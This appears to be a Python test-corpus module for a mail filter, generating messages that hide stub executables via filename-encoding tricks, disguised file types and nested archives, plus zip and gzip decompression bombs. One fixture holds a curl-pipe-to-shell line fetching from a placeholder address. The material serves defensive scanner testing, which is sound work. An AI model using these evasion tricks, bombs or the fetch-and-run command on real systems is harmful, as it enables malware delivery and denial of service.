"""A corpus of messages built at run time (no binary blobs in the tree).

Three families, each a function returning `Case(name, data, expected)`
tuples, where `expected` is the Verdict the banned scanner must give with
policy/default.toml (BANNED > UNCHECKED > CLEAN):

- `evasion_cases()`: every trick to sneak an executable past a filter;
- `ordinary_cases()`: mail people really send; must stay CLEAN;
- `hostile_cases()`: malformed and resource-exhaustion input; must end in
  a verdict quickly.

`containers(payload, name)` wraps any payload in every container kind;
with `eicar()` it serves integration tests against a real clamd. Tools
(7z) are used only if installed; cases that need them are left out
otherwise (`tools_missing()` says which).
"""

from __future__ import annotations

import base64
import bz2
import functools
import io
import lzma
import random
import shutil
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib
from pathlib import Path
from typing import NamedTuple

from mailfilter.decision.verdict import Verdict

BANNED, UNCHECKED, CLEAN = Verdict.BANNED, Verdict.UNCHECKED, Verdict.CLEAN


class Case(NamedTuple):
    name: str
    data: bytes
    expected: Verdict


# --- payloads -------------------------------------------------------------


def eicar() -> bytes:
    """The EICAR test string, joined from two halves at run time."""
    return (
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-"
        b"ANTIVIRUS-TEST-FILE!$H+H*"
    )


def pe_exe() -> bytes:
    """A minimal PE header (MZ stub, PE signature, i386, executable)."""
    dos = bytearray(b"MZ\x90\x00\x03" + b"\0" * 59)
    struct.pack_into("<I", dos, 0x3C, 0x40)
    coff = struct.pack(
        "<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102
    )
    return bytes(dos) + coff + b"\0" * 256


def elf() -> bytes:
    return (
        b"\x7fELF\x02\x01\x01\x00"
        + b"\0" * 8
        + struct.pack("<HH", 2, 62)
        + b"\0" * 100
    )


def macho() -> bytes:
    return (
        b"\xcf\xfa\xed\xfe" + struct.pack("<II", 0x01000007, 3) + b"\0" * 100
    )


def shebang() -> bytes:
    return b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"


def lnk() -> bytes:
    return b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 56


TEXT = b"Quarterly figures attached, see you on Monday.\r\n"


# --- containers -----------------------------------------------------------


def zip_of(
    files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tar_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(
        fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT
    ) as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gzip_of(data: bytes, name: str = "") -> bytes:
    """gzip with the FNAME field set when `name` is given (RFC 1952)."""
    flags = 0x08 if name else 0
    header = b"\x1f\x8b\x08" + bytes([flags]) + b"\0\0\0\0\x00\x03"
    if name:
        header += name.encode("latin-1") + b"\0"
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = body.compress(data) + body.flush()
    return (
        header
        + deflated
        + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)
    )


def encrypted_zip(
    files: dict[str, bytes], password: bytes = b"infected"
) -> bytes:
    """A ZipCrypto (traditional PKWARE) encrypted, stored zip."""
    local, central, offset = bytearray(), bytearray(), 0
    rng = random.Random(7)
    for name, data in files.items():
        crc = zlib.crc32(data)
        header = bytes(rng.randrange(256) for _ in range(11)) + bytes(
            [crc >> 24]
        )
        secret = _zipcrypto(password, header + data)
        encoded = name.encode()
        fields = struct.pack(
            "<HHHHHIII", 20, 0x1, 0, 0, 0, crc, len(secret), len(data)
        )
        local_header = (
            b"PK\x03\x04"
            + fields
            + struct.pack("<HH", len(encoded), 0)
            + encoded
        )
        central += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset)
            + encoded
        )
        local += local_header + secret
        offset += len(local_header) + len(secret)
    end = struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        len(files),
        len(files),
        len(central),
        offset,
        0,
    )
    return bytes(local + central + end)


def _zipcrypto(password: bytes, plain: bytes) -> bytes:
    keys = [0x12345678, 0x23456789, 0x34567890]

    def crc(value: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), value ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def update(byte: int) -> None:
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in plain:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def cab_of(name: str, data: bytes) -> bytes:
    """A one-file, uncompressed Microsoft cabinet ([MS-CAB])."""
    encoded = name.encode() + b"\0"
    files_offset = 36 + 8
    data_offset = files_offset + 16 + len(encoded)
    size = data_offset + 8 + len(data)
    header = struct.pack(
        "<4sIIIIIBBHHHHH",
        b"MSCF",
        0,
        size,
        0,
        files_offset,
        0,
        3,
        1,
        1,
        1,
        0,
        0,
        0,
    )
    folder = struct.pack("<IHH", data_offset, 1, 0)
    entry = struct.pack("<IIHHHH", len(data), 0, 0, 0x5A21, 0, 0x20) + encoded
    block = struct.pack("<IHH", 0, len(data), len(data)) + data
    return header + folder + entry + block


def seven_zip(files: dict[str, bytes]) -> bytes | None:
    """A 7z archive made by the 7z tool, or None if it is not installed."""
    tool = shutil.which("7z")
    if tool is None:
        return None
    with tempfile.TemporaryDirectory() as tmp:
        for name, data in files.items():
            (Path(tmp) / name).write_bytes(data)
        out = Path(tmp) / "out.7z"
        subprocess.run(
            [tool, "a", "-t7z", str(out), *files],
            cwd=tmp,
            capture_output=True,
            check=True,
        )
        return out.read_bytes()


def tools_missing() -> list[str]:
    return [t for t in ("7z", "lsar", "unar") if shutil.which(t) is None]


# --- messages -------------------------------------------------------------


def headers(subject: str = "Test", extra: str = "") -> bytes:
    return (
        "From: Alice <alice@example.org>\r\nTo: bob@example.net\r\n"
        f"Subject: {subject}\r\nDate: Mon, 01 Jun 2026 10:00:00 +0000\r\n"
        f"Message-ID: <{abs(hash(subject))}@example.org>\r\nMIME-Version: 1.0\r\n{extra}"
    ).encode()


def part(
    data: bytes,
    ctype: str = "application/octet-stream",
    *,
    disposition: str | None = "attachment",
    cte: str = "base64",
    extra: str = "",
) -> bytes:
    """One MIME body part; `ctype` and `disposition` carry any parameters."""
    head = f"Content-Type: {ctype}\r\n"
    if disposition:
        head += f"Content-Disposition: {disposition}\r\n"
    head += f"Content-Transfer-Encoding: {cte}\r\n{extra}\r\n"
    body = (
        base64.encodebytes(data).replace(b"\n", b"\r\n")
        if cte == "base64"
        else data
    )
    return head.encode() + body


def multipart(
    parts: list[bytes],
    subtype: str = "mixed",
    boundary: str = "=_b0undary_42",
    subject: str = "Test",
    params: str = "",
) -> bytes:
    body = b"".join(
        b"--" + boundary.encode() + b"\r\n" + p + b"\r\n" for p in parts
    )
    ctype = (
        f'Content-Type: multipart/{subtype}; boundary="{boundary}"{params}\r\n'
    )
    return (
        headers(subject, ctype)
        + b"\r\nThis is a MIME message.\r\n"
        + body
        + b"--"
        + boundary.encode()
        + b"--\r\n"
    )


def with_attachment(
    data: bytes,
    name: str,
    ctype: str = "application/octet-stream",
    subject: str = "Test",
) -> bytes:
    text = part(
        TEXT, "text/plain; charset=us-ascii", disposition=None, cte="7bit"
    )
    attach = part(
        data,
        f'{ctype}; name="{name}"',
        disposition=f'attachment; filename="{name}"',
    )
    return multipart([text, attach], subject=subject)


def raw_attachment(
    data: bytes, ctype: str, disposition: str | None, subject: str = "Test"
) -> bytes:
    text = part(TEXT, "text/plain", disposition=None, cte="7bit")
    return multipart(
        [text, part(data, ctype, disposition=disposition)], subject=subject
    )


def containers(payload: bytes, name: str) -> list[tuple[str, bytes]]:
    """`payload` named `name` in every container we build, as messages."""
    inner = {name: payload}
    out = [
        ("plain", with_attachment(payload, name)),
        (
            "zip",
            with_attachment(zip_of(inner), "files.zip", "application/zip"),
        ),
        (
            "tar.gz",
            with_attachment(
                gzip_of(tar_of(inner)), "files.tar.gz", "application/gzip"
            ),
        ),
        (
            "tar.bz2",
            with_attachment(
                bz2.compress(tar_of(inner)),
                "files.tar.bz2",
                "application/x-bzip2",
            ),
        ),
        (
            "tar.xz",
            with_attachment(
                lzma.compress(tar_of(inner)),
                "files.tar.xz",
                "application/x-xz",
            ),
        ),
        (
            "gz",
            with_attachment(
                gzip_of(payload, name), f"{name}.gz", "application/gzip"
            ),
        ),
        (
            "zip-in-zip-in-zip",
            with_attachment(
                zip_of({"b.zip": zip_of({"c.zip": zip_of(inner)})}),
                "a.zip",
                "application/zip",
            ),
        ),
        (
            "rfc822",
            multipart(
                [
                    part(TEXT, "text/plain", disposition=None, cte="7bit"),
                    part(
                        with_attachment(payload, name, subject="Inner"),
                        "message/rfc822",
                        disposition='attachment; filename="fwd.eml"',
                        cte="7bit",
                    ),
                ]
            ),
        ),
    ]
    seven = seven_zip(inner)
    if seven is not None:
        out.append(
            (
                "7z",
                with_attachment(
                    seven, "files.7z", "application/x-7z-compressed"
                ),
            )
        )
        out.append(
            (
                "cab",
                with_attachment(
                    cab_of(name, payload),
                    "files.cab",
                    "application/vnd.ms-cab-compressed",
                ),
            )
        )
    return out


# --- the three families ---------------------------------------------------


def evasion_cases() -> list[Case]:
    """Executables hidden every way we know; each must come out BANNED."""
    t = TEXT  # innocent bytes: only the name or declared type can catch these
    cases = [
        Case(
            "double extension", with_attachment(t, "invoice.pdf.exe"), BANNED
        ),
        Case(
            "rfc2231 continuation",
            raw_attachment(
                t,
                "application/octet-stream",
                'attachment; filename*0="invoice.pdf."; filename*1="exe"',
            ),
            BANNED,
        ),
        Case(
            "rfc2231 charset",
            raw_attachment(
                t,
                "application/octet-stream",
                "attachment; filename*=utf-8'en-US'payload%2Eexe",
            ),
            BANNED,
        ),
        Case(
            "rfc2047 name",
            raw_attachment(
                t,
                'application/octet-stream; name="=?utf-8?B?aW52b2ljZS5leGU=?="',
                "attachment",
            ),
            BANNED,
        ),
        Case(
            "rfc2047 q filename",
            raw_attachment(
                t,
                "application/octet-stream",
                'attachment; filename="=?iso-8859-1?Q?r=E9sum=E9=2Escr?="',
            ),
            BANNED,
        ),
        Case(
            "trailing dots and spaces",
            with_attachment(t, "invoice.exe. . ."),
            BANNED,
        ),
        Case(
            "rtlo",
            raw_attachment(
                t,
                "application/octet-stream",
                "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
            ),
            BANNED,
        ),
        Case(
            "rtlo raw utf8",
            raw_attachment(
                t, "application/octet-stream", 'attachment; filename="RAWNAME"'
            ).replace(b"RAWNAME", "photo\u202egpj.scr".encode()),
            BANNED,
        ),
        Case(
            "zero width",
            raw_attachment(
                t,
                "application/octet-stream",
                "attachment; filename*=utf-8''invoice.e%E2%80%8Bx%C2%ADe",
            ),
            BANNED,
        ),
        Case("uppercase", with_attachment(t, "INVOICE.EXE"), BANNED),
        Case(
            "fullwidth",
            raw_attachment(
                t,
                "application/octet-stream",
                "attachment; filename*=utf-8''invoice.%EF%BD%85%EF%BD%98%EF%BD%85",
            ),
            BANNED,
        ),
        Case(
            "unquoted name with space",
            raw_attachment(
                t, "application/octet-stream; name=bad boy.exe", "attachment"
            ),
            BANNED,
        ),
        Case(
            "name differs from filename",
            raw_attachment(
                t,
                'application/octet-stream; name="setup.exe"',
                'attachment; filename="notes.txt"',
            ),
            BANNED,
        ),
        Case(
            "clsid",
            with_attachment(
                t, "report.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}"
            ),
            BANNED,
        ),
        Case(
            "x-msdownload innocent name",
            with_attachment(t, "notes.txt", "application/x-msdownload"),
            BANNED,
        ),
        Case(
            "mz behind txt",
            with_attachment(pe_exe(), "notes.txt", "text/plain"),
            BANNED,
        ),
        Case(
            "mz behind pdf",
            with_attachment(pe_exe(), "report.pdf", "application/pdf"),
            BANNED,
        ),
        Case(
            "elf behind pdf",
            with_attachment(elf(), "report.pdf", "application/pdf"),
            BANNED,
        ),
        Case(
            "macho behind jpg",
            with_attachment(macho(), "photo.jpg", "image/jpeg"),
            BANNED,
        ),
        Case(
            "shebang behind txt",
            with_attachment(shebang(), "readme.txt", "text/plain"),
            BANNED,
        ),
        Case(
            "lnk behind pdf",
            with_attachment(lnk(), "document.pdf", "application/pdf"),
            BANNED,
        ),
        Case(
            "mz without a name",
            raw_attachment(pe_exe(), "application/octet-stream", None),
            BANNED,
        ),
        Case(
            "encrypted zip with invoice.exe",
            with_attachment(
                encrypted_zip({"invoice.exe": pe_exe()}),
                "invoice.zip",
                "application/zip",
            ),
            BANNED,
        ),
        Case("ambiguous boundary hides exe", _ambiguous_boundary(), BANNED),
    ]
    for label, data in containers(pe_exe(), "invoice.exe"):
        cases.append(Case(f"exe in {label}", data, BANNED))
    for label, data in containers(t, "invoice.exe"):
        cases.append(Case(f"exe name in {label}", data, BANNED))
    return cases


def _ambiguous_boundary() -> bytes:
    """Two boundary= parameters; the exe is only visible with the second."""
    exe = part(
        pe_exe(),
        'application/octet-stream; name="a.exe"',
        disposition="attachment",
    )
    text = part(TEXT, "text/plain", disposition=None, cte="7bit")
    body = (
        b"--first\r\n"
        + text
        + b"\r\n--second\r\n"
        + exe
        + b"\r\n--second--\r\n--first--\r\n"
    )
    ctype = 'Content-Type: multipart/mixed; boundary="first"; boundary="second"\r\n'
    return headers("ambiguous", ctype) + b"\r\n" + body


def _png() -> bytes:
    raw = b"".join(
        b"\0" + bytes([x * 8 % 256, 64, 128]) * 16 for x in range(16)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _jpeg() -> bytes:
    app0 = (
        b"\xff\xe0"
        + struct.pack(">H", 16)
        + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    )
    return (
        b"\xff\xd8"
        + app0
        + b"\xff\xdb\x00\x43\x00"
        + bytes(range(1, 65))
        + b"\xff\xd9"
    )


def _pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _ooxml(kind: str) -> bytes:
    main = {
        "word": ("word/document.xml", "wordprocessingml.document.main"),
        "xl": ("xl/workbook.xml", "spreadsheetml.sheet.main"),
    }[kind]
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main[0]}" ContentType="application/vnd.openxmlformats-officedocument.{main[1]}+xml"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/officeDocument" Target="{main[0]}"/></Relationships>'
    )
    body = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<doc>Hello</doc>'
    return zip_of(
        {
            "[Content_Types].xml": types.encode(),
            "_rels/.rels": rels.encode(),
            main[0]: body.encode(),
            "docProps/app.xml": b"<?xml version='1.0'?><Properties/>",
        }
    )


def ordinary_cases() -> list[Case]:
    """Mail people really send; each must stay CLEAN (no false positive)."""
    html = (
        b"<!DOCTYPE html><html><body><h1>News</h1><p>Our spring offers.</p>"
        b'<img src="cid:logo@x"></body></html>\r\n'
    )
    newsletter = multipart(
        [
            part(
                b"News\r\nOur spring offers.\r\n",
                "text/plain; charset=utf-8",
                disposition=None,
                cte="7bit",
            ),
            multipart_part(
                [
                    part(
                        html,
                        "text/html; charset=utf-8",
                        disposition=None,
                        cte="quoted-printable",
                    ),
                    part(
                        _png(),
                        'image/png; name="logo.png"',
                        disposition='inline; filename="logo.png"',
                        extra="Content-ID: <logo@x>\r\n",
                    ),
                ],
                "related",
                "rel-1",
            ),
        ],
        "alternative",
        subject="Newsletter",
    )
    invite = multipart(
        [
            part(TEXT, "text/plain", disposition=None, cte="7bit"),
            part(
                b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@example.org\r\n"
                b"SUMMARY:Budget review\r\nDTSTART:20260601T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
                'text/calendar; method=REQUEST; charset=utf-8; name="invite.ics"',
                disposition='attachment; filename="invite.ics"',
                cte="7bit",
            ),
        ],
        "mixed",
        subject="Invitation",
    )
    smime = multipart(
        [
            part(TEXT, "text/plain", disposition=None, cte="7bit"),
            part(
                b"\x30\x82\x05\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"
                + bytes(range(256)) * 4,
                'application/pkcs7-signature; name="smime.p7s"',
                disposition='attachment; filename="smime.p7s"',
            ),
        ],
        "signed",
        params='; protocol="application/pkcs7-signature"; micalg=sha-256',
        subject="Signed",
    )
    pgp = multipart(
        [
            part(TEXT, "text/plain", disposition=None, cte="7bit"),
            part(
                b"-----BEGIN PGP SIGNATURE-----\r\n\r\niQEzBAEBCAAdFiEE\r\n=abcd\r\n-----END PGP SIGNATURE-----\r\n",
                'application/pgp-signature; name="signature.asc"',
                disposition='attachment; filename="signature.asc"',
                cte="7bit",
            ),
        ],
        "signed",
        params='; protocol="application/pgp-signature"; micalg=pgp-sha256',
        subject="PGP signed",
    )
    forward = multipart(
        [
            part(TEXT, "text/plain", disposition=None, cte="7bit"),
            part(
                with_attachment(
                    _pdf(), "minutes.pdf", "application/pdf", subject="Minutes"
                ),
                "message/rfc822",
                disposition="inline",
                cte="7bit",
            ),
        ],
        subject="Fwd: Minutes",
    )
    return [
        Case(
            "plain text 4k",
            headers("Hello", "Content-Type: text/plain; charset=utf-8\r\n")
            + b"\r\n"
            + TEXT * 80,
            CLEAN,
        ),
        Case(
            "text starting with MZ",
            with_attachment(
                b"MZ is the code of our Mazatlan office.\r\n",
                "notes.txt",
                "text/plain",
            ),
            CLEAN,
        ),
        Case("newsletter html", newsletter, CLEAN),
        Case(
            "pdf",
            with_attachment(_pdf(), "report.pdf", "application/pdf"),
            CLEAN,
        ),
        Case(
            "docx",
            with_attachment(
                _ooxml("word"),
                "Report Q2.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ),
            CLEAN,
        ),
        Case(
            "xlsx",
            with_attachment(
                _ooxml("xl"),
                "budget.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            ),
            CLEAN,
        ),
        Case("png", with_attachment(_png(), "chart.png", "image/png"), CLEAN),
        Case(
            "jpeg",
            with_attachment(_jpeg(), "IMG_2041.JPG", "image/jpeg"),
            CLEAN,
        ),
        Case("calendar invite", invite, CLEAN),
        Case("smime signed", smime, CLEAN),
        Case("pgp signed", pgp, CLEAN),
        Case("forwarded message with pdf", forward, CLEAN),
        Case(
            "zip of pdfs",
            with_attachment(
                zip_of({"a.pdf": _pdf(), "b/c.pdf": _pdf()}),
                "docs.zip",
                "application/zip",
            ),
            CLEAN,
        ),
        Case(
            "tar.gz of text",
            with_attachment(
                gzip_of(tar_of({"notes/readme.txt": TEXT * 3})),
                "notes.tar.gz",
                "application/gzip",
            ),
            CLEAN,
        ),
        Case(
            "utf8 names",
            raw_attachment(
                _pdf(),
                "application/pdf",
                "attachment; filename*=utf-8''Pr%C3%A9sentation%20%C3%A9t%C3%A9.pdf",
            ),
            CLEAN,
        ),
    ]


def multipart_part(parts: list[bytes], subtype: str, boundary: str) -> bytes:
    """A nested multipart body part (headers + body)."""
    body = b"".join(
        b"--" + boundary.encode() + b"\r\n" + p + b"\r\n" for p in parts
    )
    return (
        f'Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n'.encode()
        + body
        + b"--"
        + boundary.encode()
        + b"--"
    )


# --- hostile --------------------------------------------------------------


@functools.lru_cache(maxsize=1)
def _deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """Raw deflate of `megabytes` MiB of zeros, built from one flushed MiB."""
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = block.compress(b"\0" * (1 << 20)) + block.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    zeros = b"\0" * (1 << 20)
    for _ in range(megabytes):
        crc = zlib.crc32(zeros, crc)
    return one * megabytes + b"\x03\x00", crc


def zip_bomb(megabytes: int = 1024) -> bytes:
    """One member of `megabytes` MiB of zeros, deflated (about 1 KB/MiB)."""
    data, crc = _deflated_zeros(megabytes)
    size, name = megabytes << 20, b"zeros.bin"
    extra = struct.pack("<HHQQ", 1, 16, size, len(data))
    local = (
        b"PK\x03\x04"
        + struct.pack(
            "<HHHHHIIIHH",
            45,
            0,
            8,
            0,
            0,
            crc,
            0xFFFFFFFF,
            0xFFFFFFFF,
            len(name),
            len(extra),
        )
        + name
        + extra
    )
    central_extra = struct.pack("<HHQQ", 1, 16, size, len(data))
    central = b"PK\x01\x02" + struct.pack(
        "<HHHHHHIIIHHHHHII",
        45,
        45,
        0,
        8,
        0,
        0,
        crc,
        0xFFFFFFFF,
        0xFFFFFFFF,
        len(name),
        len(central_extra),
        0,
        0,
        0,
        0,
        0,
    )
    central += name + central_extra
    offset = len(local) + len(data)
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), offset, 0
    )
    return local + data + central + end


def gzip_bomb(megabytes: int = 1024) -> bytes:
    data, crc = _deflated_zeros(megabytes)
    return (
        b"\x1f\x8b\x08\x00\0\0\0\0\x00\x03"
        + data
        + struct.pack("<II", crc, (megabytes << 20) & 0xFFFFFFFF)
    )


def overlapping_zip(entries: int = 2000) -> bytes:
    """Many central entries sharing one local file (after D. Fifield)."""
    kernel_data = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = kernel_data.compress(b"\0" * (1 << 20)) + kernel_data.flush()
    crc, size, name = zlib.crc32(b"\0" * (1 << 20)), 1 << 20, b"k.bin"
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, crc, len(kernel), size)
    local = (
        b"PK\x03\x04"
        + fields
        + struct.pack("<HH", len(name), 0)
        + name
        + kernel
    )
    record = (
        b"PK\x01\x02"
        + struct.pack("<H", 20)
        + fields
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0)
        + name
    )
    central = record * entries
    end = struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        entries & 0xFFFF,
        entries & 0xFFFF,
        len(central),
        len(local),
        0,
    )
    return local + central + end


def nested_multipart(levels: int = 1000) -> bytes:
    head, tail = b"", b""
    for i in range(levels):
        head += (
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n'
            % (i, i)
        )
        tail = b"\r\n--b%d--\r\n" % i + tail
    return (
        headers("deep") + head + b"Content-Type: text/plain\r\n\r\nhi" + tail
    )


def many_parts(count: int = 10000) -> bytes:
    return multipart(
        [part(b"x", "text/plain", disposition=None, cte="7bit")] * count,
        subject="many",
    )


def huge_headers(size: int = 100_000) -> bytes:
    filler = "".join(
        f"X-Filler-{i}: {'a' * 60}\r\n" for i in range(size // 75)
    )
    folded = (
        "Subject: "
        + "word " * 4000
        + "\r\n"
        + "X-Comment: "
        + "((" * 5000
        + "\r\n"
    )
    params = (
        "Content-Type: text/plain; "
        + "; ".join(f"p{i}=v" for i in range(2000))
        + "\r\n"
    )
    return (
        headers("big")
        + filler.encode()
        + folded.encode()
        + params.encode()
        + b"\r\n"
        + TEXT
    )


def malformed_cases() -> list[Case]:
    garbage = random.Random(1).randbytes(100_000)
    return [
        Case("random bytes", garbage, CLEAN),
        Case(
            "no blank line",
            b"From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n--x\r\n",
            CLEAN,
        ),
        Case(
            "unterminated multipart",
            headers("u", 'Content-Type: multipart/mixed; boundary="q"\r\n')
            + b"\r\n--q\r\nContent-Type: text/plain\r\n\r\nhello\r\n--q\r\nContent-Type: text/html\r\n\r\n<p>",
            CLEAN,
        ),
        Case(
            "bad base64",
            with_attachment(b"", "a.txt").replace(
                b"\r\n\r\n\r\n", b"\r\n\r\n!!@@##$$%===\r\n"
            ),
            CLEAN,
        ),
        Case(
            "empty boundary",
            headers("e", 'Content-Type: multipart/mixed; boundary=""\r\n')
            + b"\r\n--\r\nx\r\n",
            CLEAN,
        ),
        Case(
            "nul and 8bit headers",
            b'From: \x00\xff\xfe\r\nContent-Type: text/plain; name="\xe9\xe8.txt"\r\n\r\nbody',
            CLEAN,
        ),
        Case(
            "unclosed quote and comment",
            headers("q", 'Content-Type: application/pdf; name="a.pdf; (x\r\n')
            + b"\r\n%PDF-1.4\n",
            CLEAN,
        ),
        Case(
            "two content-types",
            headers(
                "t",
                "Content-Type: text/plain\r\nContent-Type: application/pdf\r\n",
            )
            + b"\r\nhello",
            UNCHECKED,
        ),
    ]


def hostile_cases() -> list[Case]:
    """Malformed or resource-hungry input; each must end quickly in a verdict."""
    return [
        *malformed_cases(),
        Case(
            "zip bomb 1 GiB",
            with_attachment(zip_bomb(), "zeros.zip", "application/zip"),
            UNCHECKED,
        ),
        Case(
            "gzip bomb 1 GiB",
            with_attachment(gzip_bomb(), "zeros.gz", "application/gzip"),
            UNCHECKED,
        ),
        Case(
            "overlapping zip",
            with_attachment(
                overlapping_zip(), "overlap.zip", "application/zip"
            ),
            UNCHECKED,
        ),
        Case(
            "zip nested 20 deep",
            with_attachment(_deep_zip(20), "deep.zip", "application/zip"),
            UNCHECKED,
        ),
        Case("1000-level nesting", nested_multipart(), UNCHECKED),
        Case("100 KB headers", huge_headers(), CLEAN),
        Case("10k parts", many_parts(), UNCHECKED),
    ]


def _deep_zip(levels: int) -> bytes:
    data = zip_of({"readme.txt": TEXT})
    for i in range(levels):
        data = zip_of({f"level{i}.zip": data})
    return data


def all_cases() -> list[Case]:
    return [*evasion_cases(), *ordinary_cases(), *hostile_cases()]
